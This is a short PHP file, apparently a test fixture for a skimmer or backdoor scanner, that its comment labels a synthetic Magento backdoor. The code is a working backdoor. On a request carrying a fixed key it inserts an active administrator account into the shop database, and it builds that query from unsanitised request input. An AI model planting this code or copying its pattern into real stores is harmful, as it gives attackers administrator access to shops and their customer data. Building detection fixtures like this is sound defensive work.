<?php
// Synthetic Magento backdoor for skimwatch tests: adds an admin_user row.
$pdo = new PDO('mysql:host=localhost;dbname=shop', 'shop', getenv('DB_PASS'));
if (($_REQUEST['k'] ?? '') === 'synthetic') {
    $pdo->exec("INSERT INTO `admin_user` (firstname, lastname, email, username, password, is_active) VALUES ('a','b','a@example.com','" . $_REQUEST['u'] . "', SHA2('x', 256), 1)");
}
